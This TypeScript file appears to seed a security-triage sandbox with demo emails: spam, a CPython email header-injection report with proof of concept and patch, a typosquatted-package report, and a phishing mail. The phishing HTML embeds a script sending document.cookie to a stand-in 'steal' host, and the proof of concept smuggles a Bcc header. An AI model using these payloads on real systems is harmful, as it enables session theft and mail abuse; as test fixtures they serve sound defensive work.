// The sandbox's demo mail to security@: a few messages of the kinds the PSRT's admins triage (a
// CPython report with a proof of concept and the reporter's follow-up, SEO spam, a malicious
// package for PyPI, an HTML-only mail with a script), put through the real path at the times
// they arrived: stored as received (receiveMail), then read into threads (readPendingMail).
import type { AppContext } from '../app/context.ts';
import { type IntakeSettings, readPendingMail, receiveMail } from '../app/intake.ts';
import { durationMs } from './replay.ts';

interface DemoMail {
  /** How long before "now" it arrived (`2d 3h`). */
  receivedAgo: string;
  /** Names the message, for a reply's In-Reply-To. */
  key: string;
  inReplyTo?: string;
  from: string;
  subject: string;
  text?: string;
  html?: string;
  attachment?: { filename: string; contentType: string; content: string };
}

const poc = `import email
from email.policy import default

# A folded encoded-word that decodes to CRLF smuggles a header into the output.
msg = email.message_from_string(
    "Subject: =?utf-8?q?hello=0D=0ABcc=3A_attacker=40example=2Ecom?=\\n\\nbody",
    policy=default,
)
out = msg.as_string()
print(out)
raise SystemExit(1 if "\\nBcc: attacker@example.com" in out else 0)
`;

export const demoMail: readonly DemoMail[] = [
  {
    key: 'seo',
    receivedAgo: '3d 2h',
    from: 'Growth Team <partnerships@seo-boost.example>',
    subject: 'Guest post opportunity for python.org (DA 90+)',
    text: 'Hi webmaster,\n\nWe would love to place a sponsored article with a dofollow link on python.org.\nOur rates start at $150. Reply to get our media kit!\n\nBest,\nGrowth Team',
  },
  {
    key: 'header-injection',
    receivedAgo: '2d 5h',
    from: 'Kenji Watanabe <kenji.w@example.net>',
    subject: 'email: header injection through folded encoded-words',
    text: `Hello PSRT,\n\nThe email package decodes an RFC 2047 encoded-word in a header to CR LF and writes it out\nunfolded, so a crafted Subject adds a header (a Bcc here) when the message is generated again.\nAny program that re-serialises mail it received is affected.\n\nTested on 3.13.1 and 3.14.0 (both vulnerable) on Linux. Proof of concept (exits 1 if vulnerable):\n\n${poc}\nThanks,\nKenji`,
  },
  {
    key: 'header-injection-followup',
    inReplyTo: 'header-injection',
    receivedAgo: '1d 22h',
    from: 'Kenji Watanabe <kenji.w@example.net>',
    subject: 'Re: email: header injection through folded encoded-words',
    text: 'A follow-up: 3.12.8 is affected too. A minimal patch is attached (it refuses CR and LF in a\ndecoded header value).\n\nKenji',
    attachment: {
      filename: 'refuse-crlf.patch',
      contentType: 'text/x-patch',
      content:
        '--- a/Lib/email/_header_value_parser.py\n+++ b/Lib/email/_header_value_parser.py\n@@ -1093,6 +1093,8 @@\n+    if "\\r" in value or "\\n" in value:\n+        raise errors.HeaderParseError("CR or LF in a decoded header")\n',
    },
  },
  {
    key: 'pypi-package',
    receivedAgo: '1d 3h',
    from: 'Priya Raman <priya@research.example>',
    subject: 'Malicious package "reqeusts-toolbelt" on PyPI sends environment variables out',
    text: 'Hi,\n\nThe PyPI package reqeusts-toolbelt (a typo of requests-toolbelt), versions 0.1 to 0.3, posts\nos.environ to a remote host from its setup.py at install time. It has about 400 downloads.\n\nI have not contacted PyPI yet; please pass this on if this is not for you.\n\nPriya',
  },
  {
    key: 'html-only',
    receivedAgo: '5h',
    from: 'Security Alert <alert@account-verify.example>',
    subject: 'URGENT: your python.org account will be suspended',
    html: '<html><body><h1>Verify your account</h1><p>Your python.org password expires today. <a href="https://account-verify.example/login">Log in here</a> to keep it.</p><script>document.location="https://account-verify.example/steal?c="+document.cookie</script></body></html>',
  },
];

/** The demo mail's Message-ID, from its key. */
const messageId = (key: string) => `${key}.demo@sandbox.psrt.invalid`;

/** One demo message as its sender's program writes it (MIME), at `sentAt`. */
export function demoMessage(mail: DemoMail, sentAt: Date): Buffer {
  const head = [
    `From: ${mail.from}`,
    'To: security@python.org',
    `Subject: ${mail.subject}`,
    `Message-ID: <${messageId(mail.key)}>`,
    ...(mail.inReplyTo
      ? [`In-Reply-To: <${messageId(mail.inReplyTo)}>`, `References: <${messageId(mail.inReplyTo)}>`]
      : []),
    `Date: ${sentAt.toUTCString().replace('GMT', '+0000')}`,
    'MIME-Version: 1.0',
  ];
  const type = mail.html !== undefined ? 'text/html' : 'text/plain';
  const body = mail.html ?? mail.text ?? '';
  if (!mail.attachment)
    return Buffer.from([...head, `Content-Type: ${type}; charset=utf-8`, '', body, ''].join('\r\n'));
  const boundary = `demo-${mail.key}`;
  const { filename, contentType, content } = mail.attachment;
  return Buffer.from(
    [
      ...head,
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      `Content-Type: ${type}; charset=utf-8`,
      '',
      body,
      `--${boundary}`,
      `Content-Type: ${contentType}; name="${filename}"`,
      `Content-Disposition: attachment; filename="${filename}"`,
      '',
      content,
      `--${boundary}--`,
      '',
    ].join('\r\n'),
  );
}

/** How the sandbox reads its demo mail: acknowledged as `psrt serve` does by default. */
const sandboxIntake: IntakeSettings = {
  teamKey: null,
  acknowledgeDays: 7,
  ownAddresses: ['security@python.org', 'psrt@python.org'],
};

/** Receives and reads the demo mail, each message at the time it arrived; returns how many. */
export async function seedDemoMail(ctx: AppContext): Promise<number> {
  const now = ctx.now().getTime();
  const arrivals = demoMail
    .map((mail) => ({ mail, at: new Date(now - durationMs(mail.receivedAgo, `Demo mail "${mail.key}"`)) }))
    .sort((a, b) => a.at.getTime() - b.at.getTime());
  for (const { mail, at } of arrivals) {
    const then: AppContext = { ...ctx, now: () => at };
    await receiveMail(then, {
      raw: demoMessage(mail, at),
      source: 'smtp',
      envelopeFrom: /<([^>]+)>/.exec(mail.from)?.[1] ?? mail.from,
      envelopeTo: ['security@python.org'],
    });
    await readPendingMail(then, sandboxIntake);
  }
  return arrivals.length;
}
